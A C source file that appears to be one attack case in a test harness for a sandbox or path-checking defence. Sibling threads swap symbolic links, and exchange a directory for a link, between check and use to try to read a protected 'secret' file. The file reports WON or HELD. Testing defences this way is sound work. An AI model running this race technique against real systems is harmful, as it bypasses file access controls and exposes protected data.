// A sibling thread swaps a symbolic link, and a directory for a link, between the check and the use.
#include "attack.h"
static volatile int stop;
static char link_name[256], first[256], second[256], folder[256], kept[256], fake[256], inside[300];
static void *swap(void *argument) {
    (void)argument;
    while (!stop) {
        rename(first, link_name);
        (void)!symlink(open_file, first);
        rename(second, link_name);
        (void)!symlink(secret, second);
        syscall(SYS_renameat2, AT_FDCWD, kept, AT_FDCWD, fake, 2);
    }
    return NULL;
}
int main(int argc, char **argv) {
    (void)argc;
    begin(argv);
    snprintf(link_name, sizeof link_name, "%s/open/link", arena);
    snprintf(first, sizeof first, "%s/open/first", arena);
    snprintf(second, sizeof second, "%s/open/second", arena);
    snprintf(kept, sizeof kept, "%s/open/kept", arena);
    snprintf(fake, sizeof fake, "%s/open/fake", arena);
    snprintf(folder, sizeof folder, "%s/closed", arena);
    snprintf(inside, sizeof inside, "%s/secret", kept);
    mkdir(kept, 0777);
    close(open(inside, O_CREAT | O_WRONLY, 0666));
    (void)!symlink(folder, fake);
    (void)!symlink(open_file, first);
    (void)!symlink(secret, second);
    pthread_t thread;
    for (int i = 0; i < threads(argv); i++) pthread_create(&thread, NULL, swap, NULL);
    for (int i = 0; i < tries(); i++) {
        if (won_if(is_secret(open(link_name, O_RDONLY)), "link")) return WON;
        if (won_if(is_secret(open(inside, O_RDONLY)), "directory")) return WON;
    }
    stop = 1;
    return HELD;
}
